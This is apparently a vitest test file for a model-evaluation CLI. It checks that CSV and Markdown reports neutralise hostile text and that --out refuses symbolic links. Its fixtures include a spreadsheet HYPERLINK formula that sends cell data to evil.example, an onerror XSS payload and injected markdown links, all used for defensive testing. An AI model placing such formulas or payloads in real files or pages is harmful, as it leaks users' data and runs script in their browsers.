// A run whose model answers with spreadsheet formulas and whose config name
// is HTML, reported through the real CLI: the CSV cells are neutralised, the
// Markdown carries every name as text (run, provider, task, subject, group,
// judge), and --out never writes through a link.
import { lstatSync, mkdtempSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runHeng } from '../helpers/cli.js';
import { startOpenAIServer, type OpenAIServer } from '../helpers/openai-server.js';
import { testDb } from '../helpers/test-db.js';
import { loadReport } from '../../src/report/render.js';
import { markdown } from '../../src/report/text.js';
import { openStore } from '../../src/store/open.js';

let server: OpenAIServer;
let dir: string;
let db: string;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const NAME = '<img src=x onerror=alert(1)> [click](http://evil.example) *bold*';

beforeAll(async () => {
  server = await startOpenAIServer();
  server.setScript(() => ({ kind: 'answer', text: FORMULA }));
  dir = mkdtempSync(path.join(tmpdir(), 'heng-hostile-'));
  db = await testDb(dir, 'h.db');
  writeFileSync(
    path.join(dir, 'heng.yaml'),
    `name: ${JSON.stringify(NAME)}
providers:
  - { id: echo, type: openai-compatible, baseUrl: ${server.url}/v1, model: m, apiKey: "\${env:HENG_CLI_KEY}" }
tasks:
  - id: t
    items: [{ id: q0, question: "hi", answer: "2" }, { id: q1, question: "hi", answer: "3" }]
    prompt: { user: "{{question}}" }
    scorers: [{ type: exact }]
run: { retries: 0 }
`,
  );
  const r = await runHeng(['run', path.join(dir, 'heng.yaml'), '--db', db], { env: { HENG_CLI_KEY: 'k' } });
  expect(r.stderr).not.toMatch(/error:/i);
});
afterAll(() => server.close());

describe('reports of hostile text', () => {
  it('report.csv neutralises answers a spreadsheet would run as formulas', async () => {
    const csv = await runHeng(['report', 'latest', '--db', db, '--format', 'csv']);
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv.stdout).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('report.md carries the config name as text: no raw HTML, no link', async () => {
    const md = await runHeng(['report', 'latest', '--db', db, '--format', 'md']);
    expect(md.code, md.stderr).toBe(0);
    const title = md.stdout.split('\n')[0];
    expect(title).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(title).not.toContain('<img');
    expect(title).toContain('\\[click\\](http://evil.example) \\*bold\\*');
  });

  it('report.md escapes every name: provider, task, subject, group and judge names make no HTML, link, emphasis or table cell', async () => {
    const store = await openStore(db);
    try {
      const { model } = await loadReport(store, 'latest');
      const evil = (what: string) => `<b>${what}</b>|[x](http://evil.example)_${what}_`;
      const clean = (what: string) => `&lt;b&gt;${what}&lt;/b&gt;\\|\\[x\\](http://evil.example)\\_${what}\\_`;
      for (const s of model.summary) Object.assign(s, { provider: evil('prov'), task: evil('task') });
      for (const o of model.overall) o.provider = evil('prov');
      const row = { provider: evil('prov'), value: 0.5, n: 2, subjects: 1, ci95: null, method: null } as const;
      model.groups = {
        [evil('bench')]: {
          benchmark: 'b',
          averaging: 'micro',
          circular: false,
          rows: [
            { ...row, kind: 'subject', tag: evil('subject') },
            { ...row, kind: 'group', tag: evil('group') },
          ],
        },
      };
      model.circular = [{ task: evil('ctask'), provider: evil('prov'), n: 2, value: 0.5, ci95: null, excluded: 0, perRotation: 0.5 } as (typeof model.circular)[number]];
      model.judging = [{ judge: evil('judge'), requests: 1, cached: 0, failed: 0, inputTokens: 1, outputTokens: 1, costCny: 0 }];
      const md = markdown(model);
      expect(md).not.toMatch(/<b>|[^\\]\]\(http|[^\\]_(prov|task|bench|subject|group|ctask|judge)_/);
      for (const what of ['prov', 'task', 'subject', 'group', 'ctask', 'judge']) expect(md, what).toContain(`| ${clean(what)} |`);
      expect(md).toContain(`: ${clean('bench')}`);
      // Every table row keeps its header's column count: no name opens a cell of its own.
      const lines = md.split('\n');
      const cells = (l: string) => l.split(/(?<!\\)\|/).length;
      let cols = 0;
      for (const [k, l] of lines.entries()) {
        if (lines[k + 1]?.startsWith('|---')) cols = cells(l);
        else if (l.startsWith('| ')) expect(cells(l), l).toBe(cols);
      }
    } finally {
      await store.close();
    }
  });

  it('--out refuses a symbolic link (the file it points to is untouched) and replaces a regular file', async () => {
    const victim = path.join(dir, 'victim.txt');
    writeFileSync(victim, 'system file');
    const link = path.join(dir, 'report.md');
    symlinkSync(victim, link);
    const r = await runHeng(['report', 'latest', '--db', db, '--format', 'md', '--out', link]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('is a symbolic link');
    expect(readFileSync(victim, 'utf8')).toBe('system file');
    expect(readlinkSync(link)).toBe(victim);
    const plain = path.join(dir, 'plain.md');
    writeFileSync(plain, 'old');
    const ok = await runHeng(['report', 'latest', '--db', db, '--format', 'md', '--out', plain]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(lstatSync(plain).isFile()).toBe(true);
    expect(readFileSync(plain, 'utf8')).toContain('# Heng evaluation report');
  });
});
